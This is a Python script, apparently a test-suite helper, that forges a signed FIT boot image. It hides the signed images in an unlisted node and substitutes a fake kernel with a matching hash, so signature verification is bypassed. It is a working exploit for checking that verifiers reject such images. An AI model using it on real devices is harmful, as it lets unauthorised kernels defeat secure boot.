# SPDX-License-Identifier: GPL-2.0-or-later
"""What somebody does to a FIT who cannot sign one"""

import hashlib
import struct

from host import check, read, run, write


def blocks(data):
    """Return: offsets of structure and strings, and the structure's size"""
    return struct.unpack('>I', data[8:12])[0], \
        struct.unpack('>I', data[12:16])[0], \
        struct.unpack('>I', data[36:40])[0]


def find_string(data, name):
    """Return: where in the strings block a name of a property is"""
    _, strings, _ = blocks(data)
    return data.index(b'\0' + name + b'\0', strings - 1) + 1 - strings


def subtree(data, name):
    """Return: where a node begins, and where what follows it does"""
    begin = data.index(struct.pack('>I', 1) + name + b'\0')
    at, depth = begin, 0
    while True:
        tag = struct.unpack('>I', data[at:at + 4])[0]
        at += 4
        if tag == 1:
            at = (data.index(b'\0', at) + 4) & ~3
            depth += 1
        elif tag == 2:
            depth -= 1
            if not depth:
                return begin, at
        elif tag == 3:
            size = struct.unpack('>I', data[at:at + 4])[0]
            at = (at + 8 + size + 3) & ~3


def insert(data, at, more):
    """Return: the tree with bytes added to its structure"""
    struct_at, strings_at, size = blocks(data)
    check(struct_at < strings_at, 'an unusual tree')
    head = bytearray(data[:40])
    for offset, value in ((4, len(data) + len(more)),
                          (12, strings_at + len(more)),
                          (36, size + len(more))):
        head[offset:offset + 4] = struct.pack('>I', value)
    return bytes(head) + data[40:at] + more + data[at:]


NODES = ('/configurations/conf/signature-1', 'hashed-nodes')


def attack(fit, name):
    """Move the signed images aside and put others in their place

    Of a node that is not listed nothing is hashed, not even its name: the
    images hash the same inside of one. Another one behind them keeps the end
    of the first one out.
    """
    data = read(fit)
    begin, end = subtree(data, b'images')
    good = data[begin + 12:end - 4]
    kernel = read('kernel.bin')
    evil = bytes(len(kernel) * [0x42])
    check(good.count(kernel) == 1, 'no kernel to be changed')
    bad = good.replace(kernel, evil).replace(
        hashlib.sha256(kernel).digest(), hashlib.sha256(evil).digest())
    data = insert(data, end - 4, struct.pack('>I', 1) + b'y\0\0\0' +
                  struct.pack('>II', 2, 2) + bad)
    write(name, insert(data, begin + 12, struct.pack('>I', 1) + b'x\0\0\0'))
    listed = run('fdtget', '-t', 's', name, *NODES).split()
    run('fdtput', '-t', 's', name, *NODES,
        *[node.replace('/images/', '/images/x/') for node in listed])
    check(run('fdtget', '-t', 's', name, '/images/kernel', 'type') ==
          'kernel\n', 'the attack itself is broken')
